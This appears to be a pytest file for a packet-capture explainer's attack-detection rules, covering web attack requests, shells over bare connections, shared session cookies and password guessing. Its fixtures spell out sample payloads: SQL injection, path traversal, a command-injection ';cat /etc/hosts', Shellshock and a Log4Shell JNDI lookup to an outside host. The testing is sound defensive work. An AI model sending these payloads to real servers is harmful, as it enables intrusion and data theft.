"""The rules about attacks: requests that give themselves away, shells, shared sessions, guessed passwords."""

from pathlib import Path

import pytest
from factories import CLIENT, SERVER, UDP, KnownFacts, datagram, ethernet, ip, pcap
from flow import Flow, applies
from messages import get, response
from sessions import FactsOf, Said, found, found_in, reply, session, talk
from talk import Wire
from test_rule_dns import lookup

from explainer.model import Confidence, Severity, Side
from explainer.protocols.dns import Lookup, lookups
from explainer.rules.dns import dns_nxdomain
from explainer.rules.dns_storm import dns_nxdomain_storm

OK = (False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")


def asks(target: str, *headers: str) -> Said:
    lines = [f"GET {target} HTTP/1.1", "Host: shop.example", *headers, "", ""]
    return True, "\r\n".join(lines).encode()


@pytest.mark.parametrize(
    ("request_", "kind"),
    [
        (asks("/item?id=1%27+OR+%271%27%3D%271"), "an SQL injection"),
        (asks("/item?id=1+union+all+select+null,version()"), "an SQL injection"),
        (asks("/show?page=../../../../etc/passwd"), "a path traversal"),
        (asks("/show?page=%252e%252e%252f%252e%252e%252f%252e%252e%252fboot"), "a path traversal"),
        (asks("/find?q=%3Cscript%3Ealert(1)%3C/script%3E"), "cross-site scripting (XSS)"),
        (asks("/ping?host=127.0.0.1;cat%20/etc/hosts"), "a command injection"),
        (asks("/", "User-Agent: () { :; }; /bin/id"), "a Shellshock attack (CVE-2014-6271)"),
        (asks("/", "X-Api-Version: ${jndi:ldap://198.51.100.9/a}"), "a Log4Shell attack (CVE-2021-44228)"),
        (asks("/default.ida?" + "N" * 30), "an attack of the worm Code Red"),
    ],
)
def test_a_request_gives_an_attack_away(request_: Said, kind: str, tmp_path: Path, facts_of: FactsOf) -> None:
    (finding,) = found_in("attack_web", facts_of, session(tmp_path / "a.pcap", 80, request_, OK))
    assert (finding.severity, finding.side, finding.confidence) == (Severity.HIGH, Side.CLIENT, Confidence.PROBABLE)
    assert finding.title.startswith(f"{CLIENT} attacks the web server shop.example ({SERVER}:80): {kind}")
    assert finding.evidence.frames == (4, 5)


@pytest.mark.parametrize(
    "request_",
    [
        asks("/item?id=1&name=O%27Hara+and+sons"),
        asks("/search?q=select+a+union+of+workers"),
        asks("/a/../../b"),
        asks("/go?to=javascript:void(0)&cat=3|id|name"),
        asks("/rest/api?jql=project+%3D+%22A%22+AND+status+%3D+%22Open%22"),
        asks("/docs/etc/hosts?x=1;y=2|3"),
        asks("/", "User-Agent: Mozilla/5.0 (X11; Linux x86_64)", "Cookie: a=b; c=${d}"),
        asks("/find?q=%3Cb%3Escripts%3C/b%3E"),
    ],
)
def test_ordinary_requests_are_none(request_: Said, tmp_path: Path, facts_of: FactsOf) -> None:
    assert found_in("attack_web", facts_of, session(tmp_path / "a.pcap", 80, request_, OK)) == []


def test_a_scanner_that_names_itself(tmp_path: Path, facts_of: FactsOf) -> None:
    capture = session(tmp_path / "s.pcap", 80, asks("/", "User-Agent: Mozilla/5.0 zgrab/0.x"), OK)
    (finding,) = found_in("attack_web", facts_of, capture)
    assert finding.severity is Severity.MEDIUM
    assert "scans the web server" in finding.title
    assert "attacks" not in finding.title


def test_what_does_not_answer_http_is_no_web_server(tmp_path: Path, facts_of: FactsOf) -> None:
    probe = asks("/", "User-Agent: sqlmap/1.7")
    (finding,) = found_in("attack_web", facts_of, session(tmp_path / "plc.pcap", 502, probe))
    assert finding.title.startswith(f"{CLIENT} scans {SERVER}:502: its program names itself")


BANNER = b"Microsoft Windows [Version 10.0.19045.1]\r\n(c) Microsoft Corporation.\r\n\r\nC:\\Users\\a>"


@pytest.mark.parametrize(
    ("said", "who", "how"),
    [
        (((True, BANNER), (False, b"dir\n")), f"{CLIENT} gives {SERVER}", "reverse shell"),
        (
            ((False, b"uid=0(root) gid=0(root) groups=0(root)\n"), (True, b"ls\n")),
            f"{SERVER} gives {CLIENT}",
            "port 4444",
        ),
    ],
    ids=["reverse", "bound"],
)
def test_a_shell_over_a_bare_connection(
    said: tuple[Said, ...], who: str, how: str, tmp_path: Path, facts_of: FactsOf
) -> None:
    (finding,) = found_in("attack_shell", facts_of, session(tmp_path / "sh.pcap", 4444, *said))
    assert finding.severity is Severity.HIGH
    assert finding.title.startswith(who)
    assert how in finding.title


@pytest.mark.parametrize(("port", "text"), [(23, BANNER), (4444, b"version 10.0 of Windows\r\n"), (4444, b"\1\2\3\4")])
def test_no_shell(port: int, text: bytes, tmp_path: Path, facts_of: FactsOf) -> None:
    assert found_in("attack_shell", facts_of, session(tmp_path / "n.pcap", port, (False, text), (True, b"a\n"))) == []


def cookies(path: Path, *pairs: tuple[str, str]) -> Path:
    wire = Wire()
    for number, (client, cookie) in enumerate(pairs):
        flow = Flow(wire, sport=40000 + number, client=client).open()
        flow.send(True, asks("/", f"Cookie: lang=en; PHPSESSID={cookie}")[1]).send(False, OK[1])
    return wire.save(path)


ONE, OTHER = "ncobrqrb7fj2a2sinddtk567q4", "lup70ajeuodkrhrvbmsjtgrd71"


def test_two_hosts_with_one_session(tmp_path: Path, facts_of: FactsOf) -> None:
    capture = cookies(tmp_path / "two.pcap", (CLIENT, ONE), ("192.0.2.66", ONE))
    (finding,) = found_in("attack_session", facts_of, capture)
    assert finding.title.startswith(f"192.0.2.66 uses the web session of {CLIENT} on {SERVER}")
    assert ONE not in finding.model_dump_json()
    assert finding.evidence.frames == (4, 9)


@pytest.mark.parametrize("pairs", [((CLIENT, ONE), ("192.0.2.66", OTHER)), ((CLIENT, ONE), (CLIENT, ONE))])
def test_sessions_of_their_own(pairs: tuple[tuple[str, str], ...], tmp_path: Path, facts_of: FactsOf) -> None:
    assert found_in("attack_session", facts_of, cookies(tmp_path / "own.pcap", *pairs)) == []


@pytest.mark.parametrize(("refused", "let_in", "fires"), [(8, False, True), (8, True, True), (7, False, False)])
def test_passwords_are_tried(refused: int, let_in: bool, fires: bool) -> None:
    tries = [reply("FTP", "530", 10 * n, about="admin") for n in range(1, refused + 1)]
    last = [reply("FTP", "230", 500, about="admin", ok=True)] if let_in else []
    findings = found("scan_passwords", *tries, *last)
    assert bool(findings) is fires
    assert all("brute force" in f.title and ("let in" in f.title) is let_in for f in findings)


@pytest.mark.parametrize(
    ("refused", "apart_s", "status", "fires"),
    [(8, 1, 401, True), (7, 1, 401, False), (8, 60, 401, False), (8, 1, 404, False)],
    ids=["guessed", "too few", "now and then", "another error"],
)
def test_passwords_are_tried_on_a_web_page(
    refused: int, apart_s: int, status: int, fires: bool, tmp_path: Path, facts_of: FactsOf
) -> None:
    wire = Wire()
    basic = get("/", "Authorization: Basic YmVydDpzZWNyZXQ=")
    for number in range(refused):
        talk(wire, 80, (True, basic), (False, response(status)), sport=40000 + number)
        wire.wait(apart_s)
    findings = found_in("scan_web_passwords", facts_of, wire.save(tmp_path / "web.pcap"))
    assert [f"{refused} logins as bert are refused" in f.title for f in findings] == [True] * fires


@pytest.mark.parametrize(("wrong", "fires"), [(8, True), (7, False)])
def test_passwords_are_tried_in_a_form(wrong: int, fires: bool, tmp_path: Path, facts_of: FactsOf) -> None:
    wire, body = Wire(), b"user=anna&pass=x"
    kind = "Content-Type: application/x-www-form-urlencoded"
    asked = get("/login", f"Content-Length: {len(body)}", kind, method="POST") + body
    for number in range(10):
        text = "Invalid username or password" if number < wrong else "Welcome"
        talk(wire, 80, (True, asked), (False, response(200, text, "Content-Type: text/plain")), sport=40000 + number)
    assert bool(found_in("scan_web_passwords", facts_of, wire.save(tmp_path / "form.pcap"))) is fires


def test_without_the_web_no_password_is_tried_there(tmp_path: Path, facts_of: FactsOf) -> None:
    capture = pcap(tmp_path / "udp.pcap", [ethernet(ip(CLIENT, SERVER, UDP, datagram(5000, 6000, b"x")))])
    assert not applies("scan_web_passwords", capture, facts_of)


def names(*every: str) -> tuple[Lookup, ...]:
    return tuple(lookup(3 * n + 1, name=name, rcode=3, answers=()) for n, name in enumerate(every))


@pytest.mark.parametrize(
    ("every", "words"),
    [
        ([f"{chr(97 + n)}{n}qxz{n}.example{n}.com" for n in range(20)], "invented names"),
        ([f"host{n}.corp.example.com" for n in range(20)], "search suffix"),
        ([f"x{n}.example{n}.com" for n in range(19)], ""),
        ([f"{n}.2.0.192.in-addr.arpa" for n in range(30)], ""),
    ],
    ids=["invented", "one suffix", "too few", "reverse"],
)
def test_many_names_that_do_not_exist(every: list[str], words: str) -> None:
    known = KnownFacts({lookups: names(*every)})
    findings = list(dns_nxdomain_storm(known))
    assert bool(findings) is bool(words)
    assert all(words in f.title and f"{len(every)} different names" in f.title for f in findings)
    assert bool(list(dns_nxdomain(known))) is not bool(words)
